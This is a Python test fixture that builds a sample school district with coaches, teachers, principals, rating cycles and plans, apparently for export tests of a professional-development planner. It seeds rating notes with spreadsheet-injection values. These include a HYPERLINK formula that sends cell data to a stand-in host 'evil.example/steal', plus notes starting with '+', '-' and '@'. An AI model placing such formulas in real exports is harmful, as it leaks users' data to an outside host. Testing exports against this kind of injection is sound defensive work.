"""A planned district for the export tests, with someone in every position of SPEC section 9.

School S1: coach Cora with teachers Ann (who did not share) and Ben (who shared the cycle with his
principal) on her caseload; coach Otto with teacher Cal (not shared); principal Pia. School S2:
teacher Dee (shared), principal Pam. A district admin. In another district: Sam, with ratings of
his own. Everyone is planned, so there are goals, lanes, cohorts and activities.
"""

from dataclasses import dataclass
from datetime import date

import pytest

from pdplanner.accounts.models import Role
from pdplanner.assessments.services import (
    RatingInput,
    create_cycle,
    open_cycle,
    save_coach_ratings,
    save_self_ratings,
    set_sharing,
)
from pdplanner.cli import DEFAULT_CATALOGUE
from pdplanner.planning.services import import_catalogue, read_catalogue, run_plan
from tests.factories import create_district, create_school, create_user
from tests.helpers import load_default_framework
from tests.planning.conftest import planned  # noqa: F401  (the planning tests' small planned school)

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/steal?x="&A1, "click")'


@dataclass
class District:
    cycle: object
    away_cycle: object
    people: dict


def rate(cycle, educator, level: int, note: str = "") -> None:
    items = [RatingInput(c.code, level=level, confidence="medium", note=note)
             for c in cycle.framework.competencies]
    items[1] = RatingInput(items[1].competency, not_observed=True, interest=True)
    save_self_ratings(educator, cycle, items)


@pytest.fixture
def district(db):
    home = create_district("HOME")
    s1, s2 = create_school(home, "S1"), create_school(home, "S2")
    cora = create_user(Role.COACH, school=s1, given_name="Cora", email="cora@home.org")
    otto = create_user(Role.COACH, school=s1, given_name="Otto", email="otto@home.org")
    people = {
        "cora": cora, "otto": otto,
        "ann": create_user(Role.TEACHER, school=s1, coach=cora, given_name="Ann", email="ann@home.org"),
        "ben": create_user(Role.TEACHER, school=s1, coach=cora, given_name="Ben", email="ben@home.org"),
        "cal": create_user(Role.TEACHER, school=s1, coach=otto, given_name="Cal", email="cal@home.org"),
        "dee": create_user(Role.TEACHER, school=s2, given_name="Dee", email="dee@home.org"),
        "pia": create_user(Role.PRINCIPAL, school=s1, given_name="Pia", email="pia@home.org"),
        "pam": create_user(Role.PRINCIPAL, school=s2, given_name="Pam", email="pam@home.org"),
        "admin": create_user(Role.DISTRICT_ADMIN, district=home, given_name="Ada", email="ada@home.org"),
    }
    away = create_district("AWAY")
    people["sam"] = create_user(Role.TEACHER, school=create_school(away, "A1"), given_name="Sam",
                                email="sam@away.org")
    framework = load_default_framework()
    import_catalogue(read_catalogue(DEFAULT_CATALOGUE))
    cycle = create_cycle(district_id=home.id, name="2026-27 baseline", opens_on=date(2026, 9, 1),
                         closes_on=date(2026, 10, 15), framework=framework)
    open_cycle(cycle)
    away_cycle = create_cycle(district_id=away.id, name="Away baseline", opens_on=date(2026, 9, 1),
                              closes_on=date(2026, 10, 15), framework=framework)
    open_cycle(away_cycle)
    rate(cycle, people["ann"], 2, note=HOSTILE_NOTE)
    rate(cycle, people["ben"], 3, note="+1 for peer feedback")
    rate(cycle, people["cal"], 2, note="-cal's note")
    rate(cycle, people["dee"], 1, note="@dee")
    rate(cycle, cora, 3)
    rate(away_cycle, people["sam"], 2, note="away")
    save_coach_ratings(cora, people["ann"], cycle, [RatingInput("COG.1", level=1, note="@coach on ann")])
    save_coach_ratings(otto, people["cal"], cycle, [RatingInput("COG.1", level=3)])
    set_sharing(people["ben"], cycle, True)
    set_sharing(people["dee"], cycle, True)
    run_plan(cycle)
    run_plan(away_cycle)
    db.session.commit()
    return District(cycle, away_cycle, people)
